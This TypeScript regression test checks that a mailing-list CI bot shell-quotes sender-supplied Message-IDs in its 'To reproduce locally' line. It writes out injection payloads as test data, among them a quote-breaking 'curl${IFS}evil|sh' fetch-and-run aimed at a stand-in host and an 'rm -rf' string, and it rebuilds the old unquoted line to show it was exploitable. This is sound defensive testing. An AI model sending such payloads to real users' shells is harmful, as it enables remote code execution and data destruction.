// The reply's "To reproduce locally" line is pasted into a shell by maintainers, and its
// Message-ID is the sender's text. `Message-ID: <x';curl${IFS}evil|sh;'@x>` used to close the
// quote and run the sender's command. Here the line is run by a real sh, with b4 and listci
// replaced by functions that record their arguments and every command the payload names
// replaced by one that leaves a mark.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { parseMessage } from '../../src/mail/parse.ts';
import { renderReply, reproduceLine } from '../../src/report/render.ts';
import { fixture, queueOptions, replyConfig } from './support.ts';

/** The command line as the reply shows it, from a reply rendered as the daemon renders it. */
function lineInReply(messageId: string): string {
  const opts = queueOptions(1, fixture('fail-two-new-duplicates-clang.json'), replyConfig());
  const { text } = renderReply({
    ...opts.input,
    head: { ...opts.input.head, messageId },
    reproduce: reproduceLine(messageId),
    from: 'listci <listci@ci.example.org>',
    webUrl: null,
  });
  const m = /^To reproduce locally:\n {2}(.*)$/m.exec(text);
  assert.ok(m, text);
  return m[1]!;
}

/** Runs the pasted line in sh; returns b4's arguments and whether anything else ran. */
function pasteIntoShell(
  line: string,
  mustSucceed = true,
): { b4: string[] | null; listci: boolean; ran: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'listci-paste-'));
  try {
    const stubs = [
      `b4() { printf '%s\\0' "$@" > b4.args; }`,
      'listci() { : > listci.ran; }',
      ...['curl', 'sh', 'bash', 'wget', 'evil', 'touch', 'rm'].map((c) => `${c}() { : > payload.ran; }`),
    ].join('\n');
    const r = spawnSync('sh', ['-c', `${stubs}\n${line}`], {
      cwd: dir,
      encoding: 'utf8',
      env: { PATH: '/usr/bin:/bin' },
    });
    if (mustSucceed) assert.equal(r.status, 0, r.stderr);
    const args = join(dir, 'b4.args');
    return {
      b4: existsSync(args) ? readFileSync(args, 'utf8').split('\0').slice(0, -1) : null,
      listci: existsSync(join(dir, 'listci.ran')),
      ran: existsSync(join(dir, 'payload.ran')),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('an ordinary Message-ID: b4 gets it as one literal argument, then listci check runs', () => {
  const id = '20240301101500.1-1-jane@example.org';
  const line = lineInReply(id);
  assert.equal(line, `b4 am -o - '${id}' > series.mbox && listci check --mbox series.mbox`);
  assert.deepEqual(pasteIntoShell(line), { b4: ['am', '-o', '-', id], listci: true, ran: false });
});

test('a Message-ID that closes the quote is passed to b4 literally and runs nothing', () => {
  const raw = Buffer.from(
    "From: Eve <eve@z>\r\nSubject: [PATCH] x\r\nMessage-ID: <x';curl${IFS}evil|sh;'@x>\r\n\r\nbody\r\n",
  );
  const id = parseMessage(raw).messageId!;
  assert.equal(id, "x';curl${IFS}evil|sh;'@x", 'the parser takes the id as the sender wrote it');
  const line = lineInReply(id);
  assert.equal(
    line,
    `b4 am -o - 'x'\\'';curl\${IFS}evil|sh;'\\''@x' > series.mbox && listci check --mbox series.mbox`,
  );
  assert.deepEqual(pasteIntoShell(line), { b4: ['am', '-o', '-', id], listci: true, ran: false });
  // The unquoted line of old, for contrast: the same shell runs the payload.
  const old = `b4 am -o - '${id}' > series.mbox && listci check --mbox series.mbox`;
  assert.equal(pasteIntoShell(old, false).ran, true);
});

test('every quoting trick in a Message-ID comes back literally', () => {
  const ids = [
    "a'b@x",
    "a''@x",
    'a$(touch${IFS}p)b@x',
    'a`touch${IFS}p`b@x',
    "a\\'b@x",
    'a"b$HOME"@x',
    "a'\\''b@x",
    'a;rm${IFS}-rf${IFS}.;@x',
  ];
  for (const id of ids) {
    const got = pasteIntoShell(lineInReply(id));
    assert.deepEqual(got, { b4: ['am', '-o', '-', id], listci: true, ran: false }, id);
  }
});

test('a Message-ID a terminal or b4 would act on is left out of the line', () => {
  for (const id of [
    '-o/tmp/x@x',
    'a\x1b]0;title\x07@x',
    'a\u202eb@x',
    'jérôme@x',
    'a\x00b@x',
    `${'a'.repeat(300)}@x`,
  ]) {
    const line = lineInReply(id);
    assert.equal(
      line,
      'listci check --mbox series.mbox   # with the series saved from the list archive as series.mbox',
    );
    assert.deepEqual(pasteIntoShell(line), { b4: null, listci: true, ran: false });
  }
});
